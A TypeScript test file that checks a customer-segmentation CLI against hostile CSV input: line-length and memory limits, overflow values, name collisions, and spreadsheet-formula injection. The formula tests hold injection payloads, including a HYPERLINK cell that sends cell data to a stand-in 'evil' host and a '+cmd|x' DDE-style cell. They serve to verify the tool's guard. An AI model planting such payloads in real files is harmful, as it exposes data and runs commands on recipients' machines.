/**
 * Hostile and careless input (issue 20, findings 4-7): bounded time and memory on any line length or number of
 * categories, numbers scikit-learn would refuse, ragged rows, one-hot name collisions, spreadsheet formulas in the
 * CSV outputs, and the one-line messages of the CLI.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { handModel } from '../../src/api/test-support';
import { cleanCustomers } from '../../src/data/clean';
import { CsvRecords, MAX_LINE_CHARS, parseCustomersCsv } from '../../src/data/parse';
import { DataError } from '../../src/util/errors';
import { featureColumns, MAX_ONE_HOT_CATEGORIES } from '../../src/features/encode';
import { loadModel } from '../../src/io/modelFile';
import { scoreFile } from '../../src/scoring/score';
import { serializeModel } from '../../src/segmentation/artifact';
import { checkKMeansOptions } from '../../src/model/kmeansShared';
import { KMEANS_WORKER_BYTES, kmeansMemoryBytes, sweepK } from '../../src/model/sweep';
import { prepareFeatures } from '../../src/segmentation/pipeline';
import { OUTPUTS, runReport } from '../../src/report/run';
import { ROOT } from '../paths';
import { runScript } from '../support/cli';

const cli = (script: string, args: string[]) => runScript(script, args);

function dataError(f: () => unknown): DataError {
  try {
    f();
  } catch (e) {
    if (e instanceof DataError) return e;
    throw e;
  }
  throw new Error('no DataError thrown');
}

const HEADER = 'CustomerID,Gender,Age,Annual Income (k$),Spending Score (1-100)';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'hostile-input-'));
});
afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('CSV lines: linear time, bounded length', () => {
  it('a line longer than MAX_LINE_CHARS is refused with its number, however the text arrives', () => {
    const records = new CsvRecords('long.csv', () => undefined);
    records.push(`${HEADER}\n1,Male,19,15,39\n`);
    // 64 KiB chunks without a line end, as a file of one 2 GiB line arrives: refused once past the limit
    const chunk = '7'.repeat(1 << 16);
    let pushed = 0;
    const error = dataError(() => {
      for (;;) {
        records.push(chunk);
        pushed += chunk.length;
      }
    });
    expect(error.message).toBe(`long.csv line 3 is longer than 1,048,576 characters, the longest line (or quoted field) a CSV may have here; is it a CSV with one customer per line?`);
    expect(pushed).toBeLessThanOrEqual(MAX_LINE_CHARS);
    const quoted = `${HEADER}\n1,"${'x'.repeat(MAX_LINE_CHARS / 2)}\n${'y'.repeat(MAX_LINE_CHARS / 2)}",19,15,39\n`;
    expect(dataError(() => parseCustomersCsv(quoted, { source: 'q.csv' })).message).toMatch(/^q\.csv line 2 is longer than 1,048,576 characters/);
  });

  it('a long line (900,000 characters, split over 64 KiB chunks) is read whole', () => {
    const cells: string[][] = [];
    const records = new CsvRecords('ok.csv', (_line, c) => cells.push(c));
    const text = `id,note\n1,${'n'.repeat(900_000)}\n2,short\n`;
    for (let i = 0; i < text.length; i += 1 << 16) records.push(text.slice(i, i + (1 << 16)));
    records.end();
    expect(cells.map((c) => [c[0], c[1].length])).toEqual([['id', 4], ['1', 900_000], ['2', 5]]);
  });

  it('a row with more fields than the header is refused with its line (pandas: "Expected 5 fields in line 3, saw 6")', () => {
    const text = `${HEADER}\n108,Male,30,1,5,50\n109,Male,30,1,5,50\n`;
    expect(dataError(() => parseCustomersCsv(text, { source: 'comma.csv' })).message).toBe(
      'comma.csv line 2 has 6 fields, the header has 5: a value holds an unquoted comma (a decimal comma such as 1,5?); quote that value or write 1.5',
    );
    // a trailing comma (an empty sixth field) is not a split value
    const trailing = parseCustomersCsv(`${HEADER}\n1,Male,19,15,39,\n`, { source: 't.csv' });
    expect(trailing.rows[0].values).toEqual({ CustomerID: '1', Gender: 'Male', Age: '19', 'Annual Income (k$)': '15', 'Spending Score (1-100)': '39' });
  });

  it('Latin-1 text is called what it is, not binary', () => {
    const latin1 = Buffer.from(`${HEADER}\n1,Male,19,15,39\n2,F\xe9minin,20,16,40\n`, 'latin1').toString('utf8');
    expect(dataError(() => parseCustomersCsv(latin1, { source: 'l.csv' })).message).toMatch(/^l\.csv is not UTF-8 text \(line 3 has bytes that are not UTF-8, e\.g\. accented letters saved as Latin-1/);
  });
});

describe('categories and memory', () => {
  it(`a categorical feature with 20,000 values is refused before encoding (at most ${MAX_ONE_HOT_CATEGORIES}), suggesting to profile it`, () => {
    const lines = ['id,Age,Code'];
    for (let i = 0; i < 20_000; i++) lines.push(`${i},${20 + (i % 50)},c${i}`);
    const table = parseCustomersCsv(lines.join('\n'), { source: 'codes.csv', schema: { features: ['Age', 'Code'], categorical: ['Code'], id: 'id' } });
    const cleaning = cleanCustomers(table);
    expect(dataError(() => prepareFeatures(cleaning)).message).toBe(
      'categorical feature "Code" has 20,000 distinct values; clustering one-hot encodes at most 100 per column. Profile it instead: leave it out of --features (keep it in --categorical), or group its values first',
    );
  });

  it('one-hot names never collide with a column of the table or with each other', () => {
    const text = 'seg,seg=plain,a,a=b\nplain,1,b=c,x\nfancy,2,b=c,y\nplain,3,d,x\n';
    const table = parseCustomersCsv(text, { source: 'c.csv', schema: { features: ['seg', 'seg=plain', 'a', 'a=b'], categorical: ['seg', 'a', 'a=b'] } });
    const names = featureColumns(cleanCustomers(table).data).map((c) => c.name);
    expect(names).toEqual(['seg=fancy', 'seg=plain #2', 'seg=plain', 'a=b=c', 'a=d', 'a=b=x', 'a=b=y']);
    const clash = 'a,a=b\nb=c,c\nd,c\n';
    const both = featureColumns(cleanCustomers(parseCustomersCsv(clash, { source: 'd.csv', schema: { features: ['a', 'a=b'], categorical: ['a', 'a=b'] } })).data).map((c) => c.name);
    expect(both).toEqual(['a=b=c', 'a=d', 'a=b=c #2']);
    expect(new Set(names).size).toBe(names.length);
  });

  it('k-means that would not fit in memory is refused before any work, with the estimate', async () => {
    const X = { rows: 1000, cols: 3, data: new Float64Array(3000).map((_, i) => i % 7) };
    const need = kmeansMemoryBytes(1000, 3, Array.from({ length: 9 }, (_, i) => checkKMeansOptions(X, { k: i + 2 })));
    const gib = (bytes: number) => `${(bytes / 2 ** 30).toFixed(1)} GiB`;
    await expect(sweepK(X, { kMax: 10, memoryLimitBytes: need - 1 })).rejects.toThrow(
      `k-means on 1,000 customers x 3 clustering columns with k up to 10 needs about ${gib(need)} of memory; the limit is ${gib(need - 1)}. Cluster a sample of the rows, fewer columns (a categorical feature adds one per value), fewer threads (--threads 1) or a smaller --k-max`,
    );
    // the estimate itself is the limit that passes
    expect((await sweepK(X, { kMax: 3, memoryLimitBytes: need, silhouette: 'exact' })).selected).toBeGreaterThanOrEqual(2);
  });

  it('the k-means memory estimate grows with rows, columns, ks and worker threads', () => {
    const estimate = (rows: number, cols: number, kMax: number, threads: number) => {
      const X = { rows, cols, data: new Float64Array(rows * cols) };
      return kmeansMemoryBytes(rows, cols, Array.from({ length: kMax - 1 }, (_, i) => checkKMeansOptions(X, { k: i + 2, threads })));
    };
    const base = estimate(200_000, 3, 10, 1);
    expect(estimate(400_000, 3, 10, 1)).toBeGreaterThan(base);
    expect(estimate(200_000, 6, 10, 1)).toBeGreaterThan(base);
    expect(estimate(200_000, 3, 12, 1)).toBeGreaterThan(base);
    // a second thread: its own data and labels, and a worker's fixed cost
    expect(estimate(200_000, 3, 10, 2) - base).toBeGreaterThan(KMEANS_WORKER_BYTES);
    // 1,000,000 rows x 3 columns, k = 2..10, one thread: the restarts on a 200,000-row sample, so far below the
    // 1,000,000 x nInit x k distances a restart on all rows would hold (400 MB)
    expect(estimate(1_000_000, 3, 10, 1)).toBeLessThan(400e6);
  });
});

describe('numbers scikit-learn would refuse', () => {
  it('an income of 1e308 is refused with its line (the squares overflow), not a model with a null scale', () => {
    const lines = [HEADER];
    for (let i = 1; i <= 20; i++) lines.push(`${i},Male,${20 + i},${30 + i},${40 + i}`);
    lines.push('21,Female,40,1e308,50');
    const table = parseCustomersCsv(lines.join('\n'), { source: 'big.csv' });
    const message = dataError(() => prepareFeatures(cleanCustomers(table))).message;
    expect(message).toBe(
      'line 22: column "Annual Income (k$)" = 1e+308 is too large for the arithmetic (the column\'s mean or standard deviation overflows float64); values must stay well below 1e150 in magnitude: check the value or rescale the column',
    );
  });

  it('the CLI says so in one line, exit 1, and writes nothing', async () => {
    const lines = [HEADER];
    for (let i = 1; i <= 20; i++) lines.push(`${i},Male,${20 + i},${30 + i},${40 + i}`);
    lines.push('21,Female,40,1e308,50');
    await writeFile(join(dir, 'big.csv'), lines.join('\n') + '\n');
    const r = await cli('report', ['--data', join(dir, 'big.csv'), '--out', join(dir, 'big-out'), '--no-png', '--k', '2']);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split('\n')).toEqual([expect.stringMatching(/^error: line 22: column "Annual Income \(k\$\)" = 1e\+308 is too large/)]);
  }, 60_000);

  it('every model a successful run writes is accepted by its loader', async () => {
    const lines = [HEADER];
    for (let i = 1; i <= 60; i++) lines.push(`${i},${i % 2 ? 'Male' : 'Female'},${20 + (i % 40)},${1e140 * (1 + (i % 9))},${1 + (i % 99)}`);
    await writeFile(join(dir, 'wide-range.csv'), lines.join('\n') + '\n');
    const out = join(dir, 'wide-range-out');
    await runReport({ data: join(dir, 'wide-range.csv'), out, k: 3, png: false, backend: 'cpu' });
    const model = await loadModel(join(out, OUTPUTS.model));
    expect(model.scaler.scale.every((s) => Number.isFinite(s) && s > 0)).toBe(true);
  }, 60_000);
});

describe('spreadsheet formulas in the CSV outputs', () => {
  const csv = [
    'id,Note,Age,Income',
    '"=HYPERLINK(""http://evil/?x=""&A1)",@SUM(1),20,-3.5',
    '+cmd|x,-2-3,21,15',
    '-7,-Tab,22,16',
    'a4,plain,60,90',
    'a5,plain,61,91',
    'a6,plain,62,92',
  ].join('\n');

  it('report: text cells starting with = + - @ get a leading quote; numbers and number-like ids do not; --no-csv-guard off', async () => {
    await writeFile(join(dir, 'formulas.csv'), csv + '\n');
    const schema = { features: ['Age', 'Income'], categorical: ['Note'], id: 'id' };
    const out = join(dir, 'formulas-out');
    await runReport({ data: join(dir, 'formulas.csv'), out, columns: schema, k: 2, png: false, backend: 'cpu' });
    const clustered = await readFile(join(out, OUTPUTS.clustered), 'utf8');
    expect(clustered).toContain(`"'=HYPERLINK(""http://evil/?x=""&A1)",'@SUM(1)`);
    expect(clustered).toContain("'+cmd|x,'-2-3,");
    expect(clustered).toContain("-7,'-Tab,");
    expect(clustered).toMatch(/,-3\.5,/);
    const preprocessed = await readFile(join(out, OUTPUTS.preprocessed), 'utf8');
    expect(preprocessed).toContain(`"'=HYPERLINK(""http://evil/?x=""&A1)"`);
    const off = join(dir, 'formulas-off');
    await runReport({ data: join(dir, 'formulas.csv'), out: off, columns: schema, k: 2, png: false, backend: 'cpu', csvGuard: false });
    expect(await readFile(join(off, OUTPUTS.clustered), 'utf8')).toContain(`"=HYPERLINK(""http://evil/?x=""&A1)",@SUM(1)`);
  }, 60_000);

  it('score: the id column is guarded the same way', async () => {
    const model = handModel();
    await writeFile(join(dir, 'score-in.csv'), `${HEADER}\n=1+1,Male,20,20,80\n-5,Female,60,80,10\n`);
    const out = join(dir, 'score-out.csv');
    await scoreFile(model, join(dir, 'score-in.csv'), out);
    const lines = (await readFile(out, 'utf8')).trim().split('\n');
    expect(lines[1].startsWith("'=1+1,0,")).toBe(true);
    expect(lines[2].startsWith('-5,1,')).toBe(true);
    await scoreFile(model, join(dir, 'score-in.csv'), out, { csvGuard: false });
    expect((await readFile(out, 'utf8')).split('\n')[1].startsWith('=1+1,0,')).toBe(true);
  });
});

describe('one-line messages', () => {
  it('--k -3 is a value out of range, not an ambiguous flag', async () => {
    await writeFile(join(dir, 'model.json'), serializeModel(handModel()));
    await writeFile(join(dir, 'k.csv'), `${HEADER}\n1,Male,19,15,39\n2,Male,20,16,40\n3,Female,21,17,41\n`);
    const r = await cli('report', ['--data', join(dir, 'k.csv'), '--out', join(dir, 'k-out'), '--no-png', '--k', '-3']);
    expect(r.code).toBe(1);
    expect(r.stderr.trim()).toBe('error: k=-3 should be an integer >= 2');
  }, 60_000);
});
